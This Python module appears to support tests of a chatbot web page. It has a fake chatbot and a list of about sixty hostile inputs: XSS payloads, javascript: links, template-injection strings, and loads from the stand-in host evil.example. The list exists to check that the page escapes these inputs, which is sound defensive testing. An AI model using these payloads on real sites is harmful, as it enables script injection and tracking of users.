"""A chatbot for the tests of the page, and the hostile texts it is fed. Not a test itself."""

from __future__ import annotations

import re
import time
from collections.abc import Sequence

from index.documents import Card, Document, Furniture, Hit, Passage, Span
from rag.answers import Answer
from rag.progress import Found, Searched, Told
from rag.quotes import Quote, Voice
from rag.verdicts import Verdict

# Each wants to run a script, to call another host, or to come back as something other than it was.
HOSTILE = (
    "<script>window.pwned=1</script>",
    "<img src=x onerror=window.pwned=1>",
    "<img src=http://evil.example/a.png>",
    "![](http://evil.example/b.png)",
    "[click](javascript:window.pwned=1)",
    '<a href="javascript:window.pwned=1">x</a>',
    "<svg onload=window.pwned=1></svg>",
    "<svg><style>@import 'http://evil.example/c.css'</style></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<form action=http://evil.example><input autofocus onfocus=window.pwned=1></form>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "</mark></blockquote></li><script>window.pwned=1</script>",
    '"><script>window.pwned=1</script>',
    "${window.pwned=1} {{constructor.constructor('window.pwned=1')()}} `${pwned=1}`",
    "$$\\href{javascript:window.pwned=1}{x}$$ \\(x\\)",
    "```mermaid\nclick A href 'javascript:window.pwned=1'\n```",
    "<style>body{background:url(http://evil.example/d)}</style>",
    "<link rel=stylesheet href=http://evil.example/e.css><meta http-equiv=refresh content=0;url=//evil.example>",
    "<object data=http://evil.example/f></object><embed src=//evil.example/g>",
    "<video src=http://evil.example/h autoplay></video><audio src=//evil.example/i></audio>",
    "<base href=http://evil.example/><a href=x>x</a>",
    "<details open ontoggle=window.pwned=1>x</details>",
    "a\r\nb\fc\tcarriage, form feed, tab   and   runs of   blanks",
    "\u202eright to left\u202c, \u200bzero width, e\u0301, 👩‍👩‍👧, 대만, \x85 and \x9b",
    "&lt;b&gt; &amp;amp; &#60;script&#62;window.pwned=1&#60;/script&#62; &nbsp;",
    "    indented like code\n\n# heading\n\n1. list\n\n> quote\n\n| a | b |\n|---|---|\n| c | d |",
    "--><![CDATA[<script>window.pwned=1</script>]]><!--",
    "</script><script>window.pwned=1</script><!-- </title></textarea></style>",
    "\\u003cscript\\u003ewindow.pwned=1\\u003c/script\\u003e %3Cscript%3E",
    "<gradio-app src=//evil.example></gradio-app><custom-element onclick=window.pwned=1>",
    "<ScRiPt>window.pwned=1</sCrIpT>",
    "<scr<script>ipt>window.pwned=1</scr</script>ipt>",
    "<script/src=//evil.example/j.js></script>",
    "<script type=module>import('//evil.example/k.js')</script>",
    '<img src=1 href=1 onerror="window.pwned=1">',
    "<img src='x' onerror='window.pwned=1' style='position:fixed;inset:0'>",
    "<img srcset='http://evil.example/l.png 1x' loading=eager>",
    "<picture><source srcset=http://evil.example/m.png><img src=x></picture>",
    "<body onload=window.pwned=1 background=http://evil.example/n.png>",
    "<svg><script>window.pwned=1</script></svg>",
    "<svg><a xlink:href='javascript:window.pwned=1'><text y=20>x</text></a></svg>",
    "<svg><animate onbegin=window.pwned=1 attributeName=x dur=1s></svg>",
    "<svg><image href=http://evil.example/o.svg /><use href=http://evil.example/p.svg#x></svg>",
    "<svg><foreignObject><iframe src=javascript:parent.pwned=1></iframe></foreignObject></svg>",
    "<input onfocus=window.pwned=1 autofocus><textarea autofocus onfocus=window.pwned=1>",
    "<select autofocus onfocus=window.pwned=1><keygen autofocus onfocus=window.pwned=1>",
    "<button formaction=javascript:window.pwned=1>x</button><isindex action=javascript:pwned=1>",
    "<marquee onstart=window.pwned=1>x</marquee><bgsound src=//evil.example/q>",
    "<div style='background-image:url(//evil.example/r)' onpointerrawupdate=window.pwned=1>x</div>",
    "<p style='animation:x' onanimationstart=window.pwned=1><style>@keyframes x{}</style>",
    '<a href="java&#10;script:window.pwned=1">x</a><a href="&#106;avascript:window.pwned=1">y</a>',
    "<a href='data:text/html,<script>opener.pwned=1</script>' target=_blank ping=//evil.example/s>x</a>",
    "[x]: http://evil.example/t\n![y][x] <http://evil.example/u> http://evil.example/v",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==) [b](vbscript:pwned)",
    '![x](x"onerror="window.pwned=1) ![y](http://evil.example/w.png "t")',
    "`<img src=x onerror=window.pwned=1>` ~~~html\n<script>window.pwned=1</script>\n~~~",
    "\\(\\htmlData{x=1}{y}\\) \\[\\includegraphics{http://evil.example/x.png}\\] $\\unicode{x}$",
    "#{window.pwned=1} <%= window.pwned=1 %> {% raw %}{{7*7}}{% endraw %} [[${window.pwned=1}]]",
    "{{value}} {{{html}}} {{#each props}}${eval('window.pwned=1')}{{/each}} ${`${window.pwned=1}`}",
    "<template><script>window.pwned=1</script></template><slot name=x><noscript><img src=x></noscript>",
    "<xmp><script>window.pwned=1</script></xmp><plaintext><listing>&lt;script&gt;",
    "\ufeff\u2028\u2029<\u0000script>window.pwned=1</script>\u2066\u2069".replace("\u0000", ""),
    "'-window.pwned-' '+window.pwned+' ';window.pwned=1;// \";window.pwned=1;// */window.pwned=1/*",
)


def note(id_: str, text: str, *, title: str = "", date: str | None = None, aside: str = "") -> Document:
    """A document whose sentences are its lines' sentences, and whose furniture is ``aside``."""
    furniture = tuple(
        Furniture(found.start(), found.end(), "advert")
        for found in re.finditer(re.escape(aside), text)
        if aside
    )
    sentences = tuple(
        Span(found.start(), found.end())
        for found in re.finditer(r"[^\s][^\n]*?[.!?](?=\s|$)", text)
        if not any(piece.overlaps(Span(*found.span())) for piece in furniture)
    )
    return Document(id_, f"/notes/{id_}", title or id_, date, None, text, furniture, sentences)


class Fake:
    """Quotes each document's stretches between ❮ and ❯, where there is one and the question asks for it."""

    def __init__(self, documents: Sequence[Document], *, speaker: str | None = None) -> None:
        self._documents = {document.id: document for document in documents}
        self._speaker = speaker

    def ask(self, question: str, history: Sequence[str] = (), told: Told | None = None) -> Answer:
        if not question.strip():
            raise ValueError("the question is empty; type what you want to know")
        if len(question) > 2000:
            raise ValueError(f"the question is {len(question):,} characters long; at most 2,000 are read")
        if question == "break":
            raise RuntimeError("broken on purpose")
        if question == "slow":
            time.sleep(3)
        searched = f"{history[-1]} {question}" if history and question.startswith("and ") else question
        quotes = [] if "nothing" in question else self._quotes()
        said = {quote.document.id for quote in quotes}
        if told:
            told(Searched(searched))
            told(Found(len(said), 0, len(self._documents) - len(said)))
        text = f"{len(said)} of {len(self._documents)} documents speak of it."
        lines = [text, "", *(f"{quote.document.date}: “{quote.text}” [{quote.number}]" for quote in quotes)]
        verdicts = [
            Verdict(document.card, "said" if document.id in said else "silent")
            for document in self._documents.values()
        ]
        return Answer(question, searched, "\n".join(lines), tuple(quotes), tuple(verdicts), not quotes)

    def documents(self) -> tuple[Card, ...]:
        return tuple(document.card for document in self._documents.values())

    def document(self, id_: str, /) -> Document:
        return self._documents[id_]

    def search(self, query: str, k: int = 10) -> list[Hit]:
        quotes = [] if "nothing" in query else self._quotes()[:k]
        return [
            Hit(Passage(quote.document, quote.start, quote.end), quote.score, rank)
            for rank, quote in enumerate(quotes, start=1)
        ]

    def examples(self) -> tuple[str, ...]:
        return ("What did they say about the harbour?", "Who opened the bridge?")

    def _speaker_in(self, document: Document) -> str | None:
        return document.title if self._speaker == "the title" else self._speaker

    def _quotes(self) -> list[Quote]:
        voices: tuple[Voice, ...] = ("direct", "reported", "joint", "narration")
        found = [
            (document, mark)
            for document in self._documents.values()
            for mark in re.finditer(r"❮([^❯]*)❯", document.text)
        ]
        return [
            Quote(number, document, *mark.span(1), self._speaker_in(document), voices[number % 4], 0.9)
            for number, (document, mark) in enumerate(found, start=1)
        ]


CALM = (
    note(
        "2019/harbour.txt",
        "Menu | Share this\n\nThe council met at noon. It heard two reports.\n\nBuy one, get one\n\n"
        "The mayor spoke for an hour. ❮The harbour will stay open to every ship that comes in peace.❯ "
        "Nobody asked about the bridge.\n\nThe meeting closed at four. Tea was served.",
        title="The council on the harbour",
        date="2019-05-04",
        aside="Buy one, get one",
    ),
    note(
        "bridge.md",
        "A bridge was opened. ❮“We built it for those who come after us,” she said.❯ It rained.",
        title="A bridge opens",
    ),
    note("silent.txt", "Nothing of note happened.", title="A quiet day", date="2020-02"),
)

WILD = tuple(
    note(
        f"{number:02d} {payload[:40].replace('/', '_')}.txt".replace("\n", " ").replace("\r", " "),
        f"Before {payload} it. ❮{payload}❯ After {payload} it.",
        title=payload,
        date="2024-01-01" if number % 2 else payload[:30],
        aside="",
    )
    for number, payload in enumerate(HOSTILE)
)
